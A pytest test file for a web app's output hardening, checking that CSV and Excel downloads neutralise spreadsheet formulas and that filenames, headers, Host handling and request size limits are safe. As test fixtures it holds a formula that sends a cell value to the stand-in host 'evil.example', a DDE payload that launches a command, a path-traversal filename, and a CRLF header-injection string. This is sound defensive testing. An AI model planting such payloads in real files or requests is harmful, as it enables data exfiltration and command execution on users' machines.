"""Safe outputs (issue 13, point 4), over real HTTP against a real uvicorn: formulas in imported text come out
inert in the CSV and Excel downloads (OWASP "CSV injection"), download names are safe, every response carries
the security headers, the Host header is never echoed into a redirect (and an unknown host is refused when the
server validates hosts, as ``innovatlas serve`` does), and request bodies are limited.

The values file is synthetic (made up here): one row whose unit, source and author are formulas."""

from __future__ import annotations

import csv
import io
import shutil
import socket
import threading
import time
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook

from innovatlas.report.exports import safe_cell, to_csv, to_xlsx
from innovatlas.web.hardening import CSP, MAX_BODY_BYTES, allowed_hosts, attachment, safe_filename

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HEAD = "ecosystem,indicator,breakdown,year,value,unit,source,kind,confidential,units,largest_share,author"


def _serve(app):
    import uvicorn

    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    sock.close()
    srv = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=srv.run, daemon=True)
    thread.start()
    for _ in range(200):
        if srv.started:
            break
        time.sleep(0.05)
    assert srv.started
    return srv, thread, port


@pytest.fixture(scope="module")
def hardened(real_workspace, tmp_path_factory):
    """A copy of the real demo workspace with a values file imported whose text cells are formulas, served
    with host validation (loopback only), as ``innovatlas serve`` does."""
    from innovatlas.inputs import import_values
    from innovatlas.store import Workspace
    from innovatlas.web import create_app

    d = tmp_path_factory.mktemp("hardened")
    ws_path = d / "ws.duckdb"
    shutil.copy(real_workspace, ws_path)
    values = d / "values.csv"
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(HEAD.split(","))
    w.writerow(["delft", "19", "", "2020", "1500", FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "import", "no", "", "",
                "+alice"])
    values.write_text(buf.getvalue(), encoding="utf-8")
    with Workspace(ws_path) as ws:
        import_values(ws, values)
    srv, thread, port = _serve(create_app(ws_path, allowed_hosts=allowed_hosts("127.0.0.1")))
    yield f"http://127.0.0.1:{port}"
    srv.should_exit = True
    thread.join(timeout=10)


def test_safe_cell_neutralises_text_not_numbers():
    """OWASP CSV injection: text starting with = + - @ tab CR gets a quote; numbers (and numeric text) do not."""
    assert safe_cell(FORMULA) == "'" + FORMULA
    for v in ("+31 20 123", "-cmd", "@SUM(A1)", "\t=1", "\r=1", "=1+2"):
        assert safe_cell(v) == "'" + v
    for v in (-5, -2.5, 0, 3, None, True, "-12.5", "+3", "-1e5", "abc", "a=b", "-", ""):
        assert safe_cell(v) == v
    text = to_csv([{"name": "=1+2", "value": -5, "share": -0.25}])
    assert list(csv.reader(io.StringIO(text))) == [["name", "value", "share"], ["'=1+2", "-5", "-0.25"]]
    sheet = load_workbook(io.BytesIO(to_xlsx({"s": [{"name": "=1+2", "value": -5, "x": "a\x01b"}]}))).active
    name, value, x = sheet[2]
    assert (name.value, name.data_type) == ("'=1+2", "s")  # text, not a formula ('f')
    assert (value.value, value.data_type) == (-5, "n")  # a negative number stays a number
    assert x.value == "a\ufffdb"  # a control character openpyxl would refuse (a 500 before)


def test_imported_formulas_are_inert_in_the_indicator_downloads(hardened):
    r = httpx.get(f"{hardened}/api/download/delft/indicators.csv")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    mine = [row for row in rows if row["indicator"] == "19" and row["kind"] == "import"]
    assert len(mine) == 1 and mine[0]["unit"] == "'" + FORMULA and mine[0]["source"].startswith("'@SUM")
    assert float(mine[0]["value"]) == 1500
    assert not [v for row in rows for v in row.values() if v and v[0] in "=+@\t\r"]
    assert not [v for row in rows for v in row.values() if v and v[0] == "-" and not _number(v)]

    x = httpx.get(f"{hardened}/api/download/delft/indicators.xlsx")
    assert x.status_code == 200
    book = load_workbook(io.BytesIO(x.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere in the workbook
    assert "'" + FORMULA in [c.value for c in cells]
    assert 1500 in [c.value for c in cells if c.data_type == "n"]

    a = httpx.get(f"{hardened}/api/ecosystems/delft/inputs").json()  # the JSON API keeps the text as entered
    assert FORMULA in [i["unit"] for i in a["items"]]


def _number(v: str) -> bool:
    try:
        float(v)
        return True
    except ValueError:
        return False


def test_download_names_are_safe(hardened):
    r = httpx.get(f"{hardened}/api/ecosystems/delft/consortium.csv", params={"theme": "Innovation in SMEs", "where": "nl"})
    assert r.status_code == 200
    cd = r.headers["content-disposition"]
    assert cd == ("attachment; filename=\"innovatlas-delft-consortium-Innovation_in_SMEs.csv\"; "
                  "filename*=UTF-8''innovatlas-delft-consortium-Innovation%20in%20SMEs.csv")
    r = httpx.get(f"{hardened}/api/download/delft/organisations.xlsx")
    assert r.headers["content-disposition"].startswith('attachment; filename="innovatlas-delft-organisations.xlsx"')
    # names from anywhere (user text, ids) lose separators, quotes, CR/LF and non-ASCII in the plain name
    for nasty in ('../../etc/passwd', 'a"b\r\nSet-Cookie: x=1.csv', "C:\\temp\\x.csv", "Ünïcode façade.xlsx", "..", ""):
        plain = safe_filename(nasty)
        assert plain and all(ch.isascii() and (ch.isalnum() or ch in "._-") for ch in plain), plain
        header = attachment(nasty)["Content-Disposition"]
        assert "\r" not in header and "\n" not in header and "/" not in header.split("filename*=")[1]
        assert header.count('"') == 2 and not plain.startswith(".")
    assert safe_filename("Ünïcode façade.xlsx") == "Unicode_facade.xlsx"
    assert "filename*=UTF-8''%C3%9Cn%C3%AFcode%20fa%C3%A7ade.xlsx" in attachment("Ünïcode façade.xlsx")["Content-Disposition"]


@pytest.mark.parametrize("path", ["/", "/ecosystems/delft", "/ecosystems/nl/network", "/api/ecosystems",
                                  "/api/download/delft/indicators.xlsx", "/static/style.css", "/openapi.json",
                                  "/no-such-page", "/api/no-such-route", "/api/ecosystems/Delft"])
def test_every_response_carries_the_security_headers(hardened, path):
    r = httpx.get(hardened + path)
    assert r.status_code in (200, 308, 404), r.status_code
    assert r.headers["content-security-policy"] == CSP and "script-src 'self';" in CSP and "frame-ancestors 'none'" in CSP
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["x-frame-options"] == "DENY"
    assert r.headers["referrer-policy"] == "same-origin"


def test_no_inline_script_in_the_pages(hardened):
    """The CSP allows scripts from the app only; so the pages have no inline script or handler attribute."""
    import re

    for path in ("/", "/ecosystems/delft", "/ecosystems/nl/network", "/organisations?q=delft", "/compare",
                 "/connections", "/europe", "/docs"):
        html = httpx.get(hardened + path, timeout=60).text
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), path
        assert not re.search(r"\son[a-z]+\s*=", html), path


def test_the_host_header_is_never_reflected(hardened, server):
    # the plain app (no host list): the trailing-slash redirect is relative, whatever the Host header says
    r = httpx.get(f"{server}/api/ecosystems/", headers={"Host": "evil.example"})
    assert r.status_code == 307 and r.headers["location"] == "/api/ecosystems"
    r = httpx.get(f"{server}/ecosystems/Delft?lang=nl", headers={"Host": "evil.example"})
    assert r.status_code == 308 and r.headers["location"] == "/ecosystems/delft?lang=nl"
    # served with host validation: an unknown host gets 400, loopback names work
    r = httpx.get(f"{hardened}/api/ecosystems/", headers={"Host": "evil.example"})
    assert r.status_code == 400 and "evil" not in r.text and "location" not in r.headers
    assert httpx.get(f"{hardened}/api/ecosystems", headers={"Host": "localhost"}).status_code == 200
    port = hardened.rsplit(":", 1)[1]
    r = httpx.get(f"{hardened}/api/ecosystems/", headers={"Host": f"127.0.0.1:{port}"})
    assert r.status_code == 307 and r.headers["location"] == "/api/ecosystems"
    assert "0.0.0.0" not in allowed_hosts("0.0.0.0") and socket.gethostname() in allowed_hosts("0.0.0.0")
    assert allowed_hosts("10.1.2.3", ["atlas.example.org"])[-2:] == ["10.1.2.3", "atlas.example.org"]


def test_request_bodies_are_limited(hardened):
    big = b"x" * (MAX_BODY_BYTES + 1)
    r = httpx.post(f"{hardened}/api/ecosystems", content=big)
    assert r.status_code == 413 and r.json()["status"] == 413 and f"{MAX_BODY_BYTES:,}" in r.json()["error"]

    def chunks():  # no Content-Length: a streamed body is counted as it arrives
        for _ in range(MAX_BODY_BYTES // 65536 + 2):
            yield b"y" * 65536

    r = httpx.post(f"{hardened}/api/ecosystems", content=chunks())
    assert r.status_code == 413
    r = httpx.post(f"{hardened}/api/ecosystems", content=b"small")  # within the limit: the route decides (GET only)
    assert r.status_code == 405 and r.headers["allow"] == "GET, HEAD"
    assert httpx.get(f"{hardened}/api/ecosystems").status_code == 200  # the server is fine afterwards


def test_caches_are_bounded_per_opening_and_copied(real_workspace, tmp_path):
    """Load (issue 13, point 5): what the server caches per query string stays bounded; a cache never answers
    for another opening of the workspace, nor for a writable one (that may change under it)."""
    from innovatlas.explore import search_organisations
    from innovatlas.store import Workspace

    cache = search_organisations.cache
    with Workspace(real_workspace, read_only=True) as ro:
        view = ro.cursor()
        first = search_organisations(view, "univ", limit=5, offset=0)
        assert search_organisations(ro.cursor(), "univ", limit=5, offset=0) == first  # from the cache, equal
        first["items"].clear()  # a caller changing its copy does not change the cache
        assert len(search_organisations(view, "univ", limit=5, offset=0)["items"]) == 5
        for offset in range(search_organisations.maxsize + 40):  # more distinct query strings than it keeps
            search_organisations(view, "a", limit=1, offset=offset)
        assert len(cache) == search_organisations.maxsize
        assert ro.stamp() == view.stamp() and ro._frozen is view._frozen  # computed once per opening
    n = len(cache)
    copy = tmp_path / "w.duckdb"
    shutil.copy(real_workspace, copy)
    with Workspace(copy) as rw:  # writable: computed every time, never stored
        assert search_organisations(rw, "univ", limit=5)["total"] > 0 and len(cache) == n and rw._frozen is None


def test_innovatlas_serve_validates_hosts_with_two_workers(real_workspace):
    """What a user runs: ``innovatlas serve`` with two worker processes over one read-only workspace."""
    import os
    import subprocess
    import sys

    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    sock.close()
    proc = subprocess.Popen([sys.executable, "-m", "innovatlas.cli", "serve", "-w", str(real_workspace), "--port",
                             str(port), "--workers", "2", "--allowed-host", "atlas.example.org"],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=os.environ.copy())
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(600):
            try:
                if httpx.get(base + "/api/ecosystems", timeout=5).status_code == 200:
                    break
            except httpx.HTTPError:
                time.sleep(0.2)
        ok = httpx.get(base + "/api/ecosystems", headers={"Host": "atlas.example.org"}, timeout=120)
        assert ok.status_code == 200 and ok.headers["x-frame-options"] == "DENY"
        evil = httpx.get(base + "/api/ecosystems/", headers={"Host": "evil.example"}, timeout=120)
        assert evil.status_code == 400 and "location" not in evil.headers
    finally:
        proc.terminate()
        out = proc.communicate(timeout=30)[0]
    assert "2 worker processes" in out and "atlas.example.org" in out, out
